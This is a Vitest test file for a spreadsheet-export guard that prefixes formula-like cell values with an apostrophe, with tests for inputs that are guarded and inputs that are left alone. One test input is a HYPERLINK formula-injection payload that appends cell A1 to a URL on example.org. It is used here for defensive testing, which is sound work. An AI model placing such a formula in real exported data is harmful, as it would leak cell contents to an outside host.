import { expect, test } from 'vitest';
import { guardFormula } from '../../../src/export/formula-guard.ts';

test.each([
  '=HYPERLINK("https://example.org?"&A1)',
  '=1',
  '+SUM(A1)',
  '+1+1',
  '-2+3',
  '-1-1',
  '- 1',
  '-',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '-1\n=1',
  '\uFF1D1',
  '\uFF0Bx',
  '\uFF0Dx',
  '\uFF20x',
])('%j begins like a formula and gets an apostrophe', (text) => {
  expect(guardFormula(text)).toBe(`'${text}`);
});

test.each([
  '',
  '-1',
  '+1',
  '-1.5',
  '-1234567890123456789',
  'a=1',
  ' =1',
  "'=1",
  'N_1',
  '{"a":1}',
  '0',
  'Zürich',
])('%j stays as it is', (text) => {
  expect(guardFormula(text)).toBe(text);
});
